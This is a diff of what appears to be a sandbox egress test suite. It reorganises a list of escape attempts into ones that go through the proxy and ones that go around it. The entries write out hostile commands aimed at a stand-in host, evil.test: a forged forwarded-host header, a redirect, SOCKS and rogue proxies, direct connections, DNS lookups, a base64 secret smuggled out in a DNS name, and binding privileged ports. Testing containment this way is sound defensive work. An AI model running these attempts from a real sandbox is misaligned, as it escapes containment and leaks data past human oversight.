@@ -87,10 +87,10 @@ _SAID = {
     "a forwarded host": "GET http://up.test:{UP}/ HTTP/1.1\nHost: up.test:{UP}\nX-Forwarded-Host: evil.test:{PORT}\n\n",
     "the API of the server": "GET http://lm-sandbox.internal/v1/sandboxes HTTP/1.1\nHost: lm-sandbox.internal\n\n",
 }
-ATTEMPTS = [
+# What comes to the proxy, which is the same for every driver.
+AT_THE_PROXY = [
     *(Attempt("egress", f"{way} by the proxy", f"{CURL} http://{to}/") for way, to in _WAYS.items()),
     *(Attempt("egress", f"{way} by a tunnel", f"{CURL} -p http://{to}/") for way, to in _WAYS.items()),
-    *(Attempt("egress", f"{way} directly", f"{DIRECT} http://{to}/") for way, to in _WAYS.items()),
     *(Attempt("egress", f"say {name}", _python(f"say(f{text!r})")) for name, text in _SAID.items()),
     *(Attempt("egress", f"say {name} on port 80", _python(f"say(f{text!r}, 80)")) for name, text in _SAID.items()),
     *(Attempt("egress", f"the address as {form}", _python(f"say(f'GET http://{{{code}}}:{{PORT}}/ HTTP/1.1\\nHost: {{{code}}}:{{PORT}}\\n\\n')"))
@@ -104,6 +104,10 @@ ATTEMPTS = [
     Attempt("egress", "a redirection", f"{CURL} -L http://up.test:$UP_PORT/redirect?http://evil.test:$EVIL_PORT/"),
     Attempt("egress", "SOCKS", "curl -sS -m 5 -x socks5h://127.0.0.1:3128 http://evil.test:$EVIL_PORT/"),
     Attempt("egress", "another proxy", "curl -sS -m 5 -x http://$EVIL_IP:$EVIL_PORT http://evil.test/"),
+]  # fmt: skip
+# What goes another way, which the driver must not have left open.
+AROUND = [
+    *(Attempt("egress", f"{way} directly", f"{DIRECT} http://{to}/") for way, to in _WAYS.items()),
     Attempt("egress", "a name is looked up", _python("ask('evil.test')")),
     Attempt("egress", "a name is looked up over TCP", _python("ask('evil.test', tcp=True)")),
     Attempt("egress", "a secret in a name", _python("ask('c2VjcmV0LXRvLXRlbGw.evil.test', 16)")),
@@ -122,3 +126,4 @@ ATTEMPTS = [
     Attempt("egress", "a port of the front doors", _python("for p in (53, 80, 443, 3128, 1023):\n    try: socket.create_server(('127.0.0.1', p), reuse_port=True); print('THROUGH')\n    except OSError: pass")),
     Attempt("egress", "a port of the front doors for all addresses", _python("for p in (53, 80, 443, 3128):\n    try: socket.create_server(('0.0.0.0', p)); print('THROUGH')\n    except OSError: pass")),
 ]  # fmt: skip
+ATTEMPTS = [*AT_THE_PROXY, *AROUND]
